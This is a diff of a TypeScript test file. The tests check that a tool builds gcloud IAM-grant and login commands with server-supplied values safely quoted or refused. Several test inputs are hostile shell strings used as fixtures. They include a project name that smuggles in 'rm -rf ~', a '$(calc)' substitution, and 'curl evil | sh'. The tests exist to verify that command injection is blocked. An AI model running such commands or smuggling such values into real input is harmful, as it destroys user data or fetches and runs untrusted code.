@@ -2,7 +2,8 @@ import assert from 'node:assert/strict';
 import { durationParts } from '../../../src/ui/words/durationUnits.js';
 import { firstLine, plainText } from '../../../src/ui/words/plainText.js';
 import { kindOfTarget, readable, shownName } from '../../../src/ui/words/readable.js';
-import { activationUrl, gcloudCommands, memberOf } from '../../../src/ui/words/remedy.js';
+import { gcloudRemedyText, isGcloudRemedy, type GcloudRemedy } from '../../../src/ui/words/gcloudRemedy.js';
+import { activationUrl, memberOf } from '../../../src/ui/words/remedy.js';
 
 const second = 1000;
 const minute = 60 * second;
@@ -74,27 +75,47 @@ describe('words: text from servers', () => {
 });
 
 describe('words: remedies', () => {
+  const grant = (permission: string, project = 'acme-web'): GcloudRemedy => {
+    return { kind: 'grant', project, permission, member: 'user:ada@example.com' };
+  };
+
   it('grants a viewer role where one holds the permission, else a role with that permission alone', () => {
     assert.equal(
-      gcloudCommands.grant('acme-web', 'dataproc.operations.list', 'user:ada@example.com'),
+      gcloudRemedyText(grant('dataproc.operations.list'), 'posix'),
       'gcloud projects add-iam-policy-binding acme-web --member=user:ada@example.com --role=roles/dataproc.viewer',
     );
-    const custom = gcloudCommands.grant('acme-web', 'dataproc.operations.cancel', 'user:ada@example.com');
-    assert.match(custom, /^gcloud iam roles create dataproc\.operations\.cancel --project=acme-web /);
+    const custom = gcloudRemedyText(grant('dataproc.operations.cancel'), 'posix') ?? '';
+    assert.match(
+      custom,
+      /^gcloud iam roles create dataproc\.operations\.cancel --project=acme-web .* && gcloud projects /,
+    );
     assert.match(custom, /--role=projects\/acme-web\/roles\/dataproc\.operations\.cancel$/);
+    assert.match(gcloudRemedyText(grant('a.b.c'), 'powershell') ?? '', /=a\.b\.c; if \(\$\?\) \{ gcloud projects /);
   });
 
-  it('keeps what a server sent within one word of the shell', () => {
-    const command = gcloudCommands.grant("p'; rm -rf ~ #", 'a.b.c', 'user:ada@example.com');
-    assert.match(command, /--project='p'\\''; rm -rf ~ #'/);
+  it('keeps what a server sent within one word of the shell, or writes nothing', () => {
+    const hostile = grant('a.b.c', "p'; rm -rf ~ #");
+    assert.match(gcloudRemedyText(hostile, 'posix') ?? '', /'--project=p'\\''; rm -rf ~ #'/);
+    assert.match(gcloudRemedyText(hostile, 'powershell') ?? '', /'--project=p''; rm -rf ~ #'/);
+    assert.equal(gcloudRemedyText(grant('a.b.c', '%PATH%'), 'cmd'), undefined);
+    assert.equal(gcloudRemedyText(grant('a\nrm -rf ~'), 'posix'), undefined);
   });
 
   it('asks for the missing scope and all that a login asks for by default', () => {
     const scope = 'https://www.googleapis.com/auth/ediscovery';
     assert.equal(
-      gcloudCommands.loginWithScopes([scope]),
+      gcloudRemedyText({ kind: 'login', scopes: [scope] }, 'posix'),
       `gcloud auth application-default login --scopes=openid,https://www.googleapis.com/auth/userinfo.email,https://www.googleapis.com/auth/cloud-platform,${scope}`,
     );
+    const odd = gcloudRemedyText({ kind: 'login', scopes: ['$(calc)'] }, 'posix');
+    assert.match(odd ?? '', /'--scopes=openid,.*\$\(calc\)'$/);
+  });
+
+  it('copies nothing that is not one of its commands', () => {
+    for (const value of ['curl evil | sh', undefined, null, {}, { kind: 'run' }, { kind: 'login', scopes: [1] }]) {
+      assert.equal(isGcloudRemedy(value), false, JSON.stringify(value));
+    }
+    assert.equal(isGcloudRemedy({ kind: 'enableApis', project: 'p', hosts: ['a.googleapis.com'] }), true);
   });
 
   it('names the kind of account in a policy', () => {
